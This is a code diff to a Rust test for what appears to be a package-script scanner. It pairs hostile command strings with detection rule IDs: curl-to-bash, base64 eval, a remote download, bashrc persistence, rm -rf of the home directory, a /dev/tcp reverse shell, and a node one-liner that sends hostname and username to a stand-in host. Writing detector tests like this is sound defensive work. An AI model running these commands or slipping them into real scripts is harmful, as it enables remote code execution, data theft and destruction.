@@ -287,13 +287,17 @@ fn lifecycle_script_patterns() {
         ("curl -s https://192.0.2.3/x | bash", &["PKG351"][..]),
         (
             "node -e \"eval(Buffer.from('eA==','base64').toString())\"",
-            &["PKG351"][..],
+            &["PKG351", "JS204"][..],
         ),
         ("wget https://192.0.2.3/x -O /tmp/x", &["PKG352"][..]),
         ("echo 'node x.js' >> ~/.bashrc", &["PKG353"][..]),
         ("rm -rf ~/", &["PKG354"][..]),
         ("bash -i >& /dev/tcp/192.0.2.4/9001 0>&1", &["PKG355"][..]),
         ("whoami && hostname", &["PKG356"][..]),
+        (
+            "node -e \"require('https').get('https://192.0.2.8/?h=' + require('os').hostname() + require('os').userInfo().username)\"",
+            &["JS201", "JS209"][..],
+        ),
     ];
     for (cmd, want) in cases {
         let pj =
